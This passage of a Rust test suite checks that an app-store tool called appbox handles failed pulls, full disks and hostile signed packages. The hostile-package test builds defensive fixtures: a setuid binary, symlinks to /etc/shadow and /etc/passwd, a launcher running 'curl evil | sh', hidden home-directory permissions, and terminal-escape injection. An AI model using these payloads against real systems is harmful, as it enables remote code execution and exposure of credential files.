    for ext in ["svg", "desktop", "metainfo.xml"] {
        let text =
            std::fs::read_to_string(manifests.join(format!("org.appbox.Wc/org.appbox.Wc.{ext}")))
                .unwrap();
        std::fs::write(
            dir.join(format!("org.appbox.Big.{ext}")),
            text.replace("org.appbox.Wc", "org.appbox.Big"),
        )
        .unwrap();
    }
    let manifest = std::fs::read_to_string(manifests.join("org.appbox.Wc.toml"))
        .unwrap()
        .replace("org.appbox.Wc", "org.appbox.Big")
        .replace("[\"mkdir\", \"-p\", \"/app/bin\"],", "[\"mkdir\", \"-p\", \"/app/bin\", \"/app/share\"],\n    [\"cp\", \"-r\", \"data\", \"/app/share/\"],");
    std::fs::write(manifests.join("org.appbox.Big.toml"), manifest).unwrap();
    make_readable(&manifests);
    chown_tree(&manifests, world.user);
}

#[test]
fn a_server_that_stops_mid_pull_gives_a_clear_error_and_a_rerun_completes() {
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform"]);
    add_big_app(&world, 8);
    rebuild(&world, &published, "org.appbox.Big");
    {
        let nginx = Nginx::serve(&world, &world.root.join("srv"));
        add_remote(&world, &published, "test", &nginx.url("repo"));
        appbox_ok(&world, &["install", "test", "org.appbox.Platform"]);
    }
    // 8 MB at 200 kB/s a connection (libostree opens several): the server
    // goes away in the middle of the pull.
    let slow = Nginx::serve_with(&world, &world.root.join("srv"), "limit_rate 200k;");
    appbox_ok(
        &world,
        &["remote-modify", "test", "--url", &slow.url("repo")],
    );
    let install = world
        .appbox(["install", "test", "org.appbox.Big"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(1500));
    let log_before_stop = slow.access_log();
    drop(slow);
    let output = install.wait_with_output().unwrap();
    assert!(!output.status.success(), "{}", describe(&output));
    let error = String::from_utf8_lossy(&output.stderr);
    assert!(
        error.contains("cannot pull app/org.appbox.Big/x86_64/stable from test"),
        "{}",
        describe(&output)
    );
    assert!(
        log_before_stop.contains(".filez"),
        "the pull had started:\n{log_before_stop}"
    );
    assert!(!store_dir(&world)
        .join("app/org.appbox.Big/current")
        .exists());

    let nginx = Nginx::serve(&world, &world.root.join("srv"));
    appbox_ok(
        &world,
        &["remote-modify", "test", "--url", &nginx.url("repo")],
    );
    appbox_ok(&world, &["install", "test", "org.appbox.Big"]);
    let output = world
        .appbox(["run", "org.appbox.Big", "--", "-c", "/app/share/data/7.bin"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&output.stdout).contains("1048576"),
        "{}",
        describe(&output)
    );
}

#[test]
fn a_full_disk_gives_a_clear_error_and_breaks_nothing() {
    if !appbox_tests::running_as_root() {
        eprintln!("skipped: mounting a small tmpfs as the store needs root (CI runs as root)");
        return;
    }
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform", "org.appbox.Wc"]);
    add_big_app(&world, 8);
    rebuild(&world, &published, "org.appbox.Big");
    // The store is a 10 MB tmpfs: the runtime and Wc fit, the 8 MB app does not.
    let store = store_dir(&world);
    world.home_dir(".local/share/appbox");
    let mounted = std::process::Command::new("mount")
        .args([
            "-t",
            "tmpfs",
            "-o",
            &format!(
                "size=10m,mode=0755,uid={},gid={}",
                world.user.uid, world.user.gid
            ),
        ])
        .arg("appbox-full")
        .arg(&store)
        .status()
        .unwrap();
    assert!(mounted.success());
    struct Unmount(PathBuf);
    impl Drop for Unmount {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount")
                .arg("-l")
                .arg(&self.0)
                .status();
        }
    }
    let _unmount = Unmount(store.clone());
    let url = format!("file://{}", published.repo.display());
    add_remote(&world, &published, "test", &url);
    appbox_ok(&world, &["install", "test", "org.appbox.Wc"]);
    let error = fails(&world, &["install", "test", "org.appbox.Big"]);
    assert!(error.contains("the disk is full"), "{error}");
    assert!(!store.join("app/org.appbox.Big/current").exists());
    let repair = appbox_ok(&world, &["repair", "--json"]);
    assert!(
        json(&repair)["problems"].as_array().unwrap().is_empty(),
        "{}",
        describe(&repair)
    );
    let output = world
        .appbox(["run", "org.appbox.Wc", "--", "-c", "/app/bin/wc-tool"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "Wc still runs: {}",
        describe(&output)
    );
}

/// A hostile publisher: commits `tree` with the ostree tool under the app's
/// ref (with the catalog entry and ref binding appbox would write), signs it
/// with the publisher's real key, and regenerates the signed summary.
fn publish_crafted(
    world: &World,
    published: &Published,
    id: &str,
    tree: &Path,
    entry: &serde_json::Value,
) {
    let ref_name = format!("app/{id}/x86_64/stable");
    let mut commit = std::process::Command::new("ostree");
    commit
        .arg(format!("--repo={}", published.repo.display()))
        .args(["commit", "-s", "crafted", &format!("--branch={ref_name}")])
        .arg(format!("--tree=dir={}", tree.display()))
        .arg(format!("--add-metadata-string=appbox.entry={entry}"))
        .arg(format!("--add-metadata=ostree.ref-binding=['{ref_name}']"));
    world.prepare(&mut commit);
    let output = commit.output().unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    let checksum = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let object = published
        .repo
        .join(format!("objects/{}/{}", &checksum[..2], &checksum[2..]));
    let key = appbox::store::sign::SecretKey::load(&published.secret_key).unwrap();
    let signed = std::fs::read(object.with_extension("commit")).unwrap();
    let detached = appbox::store::sign::add_signature(None, &key, &signed).unwrap();
    std::fs::write(object.with_extension("commitmeta"), detached).unwrap();
    appbox_ok(
        world,
        &[
            "repo",
            "update",
            published.repo.to_str().unwrap(),
            "--sign-key",
            published.secret_key.to_str().unwrap(),
        ],
    );
}

fn crafted_entry(id: &str, name: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id, "kind": "app", "name": name, "summary": "Crafted", "description": "Crafted.",
        "version": "6.6.6", "license": "MIT", "runtime": "host", "permissions": [],
        "icon": null, "installed-size": 1
    })
}

fn crafted_tree(world: &World, id: &str) -> PathBuf {
    let tree = world.root.join(format!("crafted-{id}"));
    std::fs::create_dir_all(tree.join("files/bin")).unwrap();
    std::fs::create_dir_all(tree.join("export/share/applications")).unwrap();
    std::fs::write(
        tree.join("metadata.toml"),
        format!("id = \"{id}\"\nname = \"Crafted\"\ncommand = \"tool\"\nruntime = \"host\"\npermissions = []\n"),
    )
    .unwrap();
    std::fs::copy("/usr/bin/true", tree.join("files/bin/tool")).unwrap();
    // Handed over now: a later chown would clear the setuid bit a test sets.
    make_readable(&tree);
    chown_tree(&tree, world.user);
    tree
}

#[test]
fn hostile_trees_from_a_signed_remote_are_refused() {
    use std::os::unix::fs::PermissionsExt;
    let world = World::new();
    let published = publish(&world, &["org.appbox.Platform"]);
    let url = format!("file://{}", published.repo.display());
    add_remote(&world, &published, "test", &url);

    // A setuid program: the user's bare-user-only repository cannot hold it.
    let tree = crafted_tree(&world, "org.appbox.Setuid");
    std::fs::set_permissions(
        tree.join("files/bin/tool"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    publish_crafted(
        &world,
        &published,
        "org.appbox.Setuid",
        &tree,
        &crafted_entry("org.appbox.Setuid", "Setuid"),
    );
    let error = fails(&world, &["install", "test", "org.appbox.Setuid"]);
    assert!(error.contains("invalid mode"), "{error}");
    assert!(!store_dir(&world)
        .join("app/org.appbox.Setuid")
        .join("current")
        .exists());

    // CVE-2021-43860: the entry, which install, update and info show, asks
    // for nothing, while the metadata.toml the launcher enforces asks for
    // home. Shown and enforced must be the same list.
    let tree = crafted_tree(&world, "org.appbox.Hidden");
    let metadata = std::fs::read_to_string(tree.join("metadata.toml"))
        .unwrap()
        .replace("permissions = []", "permissions = [\"--filesystem=home\"]");
    std::fs::write(tree.join("metadata.toml"), metadata).unwrap();
    publish_crafted(
        &world,
        &published,
        "org.appbox.Hidden",
        &tree,
        &crafted_entry("org.appbox.Hidden", "Hidden"),
    );
    let error = fails(&world, &["install", "test", "org.appbox.Hidden"]);
    assert!(
        error.contains("shows the permissions [] but would get [--filesystem=home]"),
        "{error}"
    );
    assert!(!store_dir(&world).join("app/org.appbox.Hidden").exists());

    // metadata.toml and the launcher as symlinks to host files: the deployment
    // is refused when exported, and run refuses the metadata.
    let tree = crafted_tree(&world, "org.appbox.Links");
    std::fs::remove_file(tree.join("metadata.toml")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", tree.join("metadata.toml")).unwrap();
    std::os::unix::fs::symlink(
        "/etc/passwd",
        tree.join("export/share/applications/org.appbox.Links.desktop"),
    )
    .unwrap();
    publish_crafted(
        &world,
        &published,
        "org.appbox.Links",
        &tree,
        &crafted_entry("org.appbox.Links", "Links"),
    );
    let error = fails(&world, &["install", "test", "org.appbox.Links"]);
    assert!(
        error.contains("metadata.toml") && !error.contains("root:"),
        "{error}"
    );
    let app_dir = store_dir(&world).join("app/org.appbox.Links");
    assert!(!app_dir.exists(), "a refused install leaves nothing");
    // With a good metadata.toml, the symlinked launcher alone is refused.
    std::fs::remove_file(tree.join("metadata.toml")).unwrap();
    std::fs::write(
        tree.join("metadata.toml"),
        "id = \"org.appbox.Links\"\nname = \"L\"\ncommand = \"tool\"\nruntime = \"host\"\n",
    )
    .unwrap();
    publish_crafted(
        &world,
        &published,
        "org.appbox.Links",
        &tree,
        &crafted_entry("org.appbox.Links", "Links"),
    );
    let error = fails(&world, &["install", "test", "org.appbox.Links"]);
    assert!(error.contains("is a symlink"), "{error}");
    let exports = store_dir(&world).join("exports/share/applications");
    assert!(!exports.join("org.appbox.Links.desktop").exists());
    assert!(!app_dir.exists(), "a refused install leaves nothing");

    // A launcher that would run something else, with Flatpak's @@ markers.
    let tree = crafted_tree(&world, "org.appbox.Exec");
    std::fs::write(
        tree.join("export/share/applications/org.appbox.Exec.desktop"),
        "[Desktop Entry]\nType=Application\nName=Exec\nExec=sh -c 'curl evil | sh' @@u %U @@\nTryExec=sh\n",
    )
    .unwrap();
    publish_crafted(
        &world,
        &published,
        "org.appbox.Exec",
        &tree,
        &crafted_entry("org.appbox.Exec", "Exec"),
    );
    appbox_ok(&world, &["install", "test", "org.appbox.Exec"]);
    let desktop = std::fs::read_to_string(exports.join("org.appbox.Exec.desktop")).unwrap();
    assert!(
        desktop.contains("run --command=sh org.appbox.Exec -- %U\n")
            && !desktop.contains("@@")
            && !desktop.contains("TryExec"),
        "{desktop}"
    );

    // Terminal escapes in the catalog (CVE-2023-28101): the summary signs it,
    // but the catalog is refused, naming the field.
    let summary_text = std::process::Command::new("ostree")
        .arg(format!("--repo={}", published.repo.display()))
        .args(["summary", "--view"])
        .output()
        .unwrap();
    assert!(summary_text.status.success());
    let mut hostile = crafted_entry("org.appbox.Escape", "Ok\u{1b}]0;pwned\u{7}\u{1b}[2J");
    hostile["published"] = serde_json::json!({"ref": "app/org.appbox.Escape/x86_64/stable", "commit": "a".repeat(64), "download-size": 1});
    sign_summary_with_catalog(&world, &published, &[hostile]);
    let error = fails(&world, &["remote-ls", "test"]);
    assert!(
        error.contains("`name`") && !error.contains('\u{1b}'),
        "{error:?}"
    );

    // CVE-2021-43860 again: a commit that shows (and enforces) home, under a
    // re-signed catalog that shows nothing, as an install or update would
    // ask. Refused before the app's content is fetched.
    let tree = crafted_tree(&world, "org.appbox.Shown");
    let metadata = std::fs::read_to_string(tree.join("metadata.toml"))
        .unwrap()
        .replace("permissions = []", "permissions = [\"--filesystem=home\"]");
    std::fs::write(tree.join("metadata.toml"), metadata).unwrap();
    let mut honest = crafted_entry("org.appbox.Shown", "Shown");
    honest["permissions"] = serde_json::json!(["--filesystem=home"]);
    publish_crafted(&world, &published, "org.appbox.Shown", &tree, &honest);
    let ref_name = "app/org.appbox.Shown/x86_64/stable";
    let commit = std::fs::read_to_string(published.repo.join("refs/heads").join(ref_name))
        .unwrap()
        .trim()
        .to_owned();
    let mut shown = crafted_entry("org.appbox.Shown", "Shown");
    shown["published"] = serde_json::json!({"ref": ref_name, "commit": commit, "download-size": 1});
    sign_summary_with_catalog(&world, &published, &[shown]);
    let error = fails(&world, &["install", "test", "org.appbox.Shown"]);
    assert!(
        error.contains("shows the permissions [] but would get [--filesystem=home]"),
        "{error}"
    );
    assert!(!store_dir(&world).join("app/org.appbox.Shown").exists());
}

/// Replaces the catalog in the summary of `published` with `entries` and
/// signs the summary again with the publisher's key: what a publisher (or a
/// thief of its key) can serve.
fn sign_summary_with_catalog(world: &World, published: &Published, entries: &[serde_json::Value]) {
    let catalog = serde_json::json!({"version": 1, "entries": entries}).to_string();
    let mut update = std::process::Command::new("ostree");
    update
        .arg(format!("--repo={}", published.repo.display()))
        .args(["summary", "-u"])
        .arg(format!(
            "--add-metadata=appbox.catalog='{}'",
            catalog.replace('\\', "\\\\").replace('\'', "\\'")
        ));
    world.prepare(&mut update);
    let output = update.output().unwrap();
    assert!(output.status.success(), "{}", describe(&output));
    let key = appbox::store::sign::SecretKey::load(&published.secret_key).unwrap();
    let summary = std::fs::read(published.repo.join("summary")).unwrap();
    std::fs::write(
        published.repo.join("summary.sig"),
        appbox::store::sign::add_signature(None, &key, &summary).unwrap(),
    )
    .unwrap();
}

#[test]
fn builds_have_no_network_unless_a_source_asks() {
    let world = World::new();
    let published = publish(&world, &[]);
    let nginx = Nginx::serve(&world, &world.root.join("manifests"));
    let manifests = world.root.join("manifests");
    // A build that downloads a file with the Fetch sample's client.
    let original = std::fs::read_to_string(manifests.join("org.appbox.Fetch.toml")).unwrap();
    let make = |network: bool| {
        let manifest = original
            .replace("runtime = \"org.appbox.Platform\"", "runtime = \"host\"")
            .replace(
                "path = \"org.appbox.Fetch/src\"",
                &format!("path = \"org.appbox.Fetch/src\"\nnetwork = {network}"),
            )
            .replace(
                "commands = [",
                &format!(
                    "commands = [\n    [\"cc\", \"-o\", \"fetch\", \"fetch.c\"],\n    [\"mkdir\", \"-p\", \"/app/share\"],\n    [\"sh\", \"-c\", \"./fetch {} > /app/share/downloaded\"],",
                    nginx.url("org.appbox.Wc.toml")
                ),
            );
        let path = manifests.join("org.appbox.Fetch.toml");
        std::fs::write(&path, manifest).unwrap();
        world
            .appbox([
                "build",
                path.to_str().unwrap(),
                "--repo",
                published.repo.to_str().unwrap(),
            ])
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let offline = make(false);
    assert!(!offline.status.success(), "{}", describe(&offline));
    assert!(
        String::from_utf8_lossy(&offline.stderr).contains("failed with exit status"),
        "{}",
        describe(&offline)
    );
    let online = make(true);
    assert!(online.status.success(), "{}", describe(&online));
    assert!(nginx.access_log().contains("GET /org.appbox.Wc.toml"));
}

/// libostree "succeeds" without a summary for a missing repository; that
/// is an error naming the remote, not a crash.
#[test]
fn a_remote_without_a_summary_gives_a_clear_error() {
    let world = World::new();
    appbox_ok(
        &world,
        &[
            "remote-add",
            "gone",
            "file:///nonexistent/repo",
            "--no-verify",
        ],
    );
    for args in [&["remote-ls", "gone"][..], &["search", "anything"][..]] {
        let output = world.appbox(args).output().unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains("the remote gone has no summary") && output.status.code().is_some(),
            "{args:?}: {}",
            describe(&output)
        );
    }
}
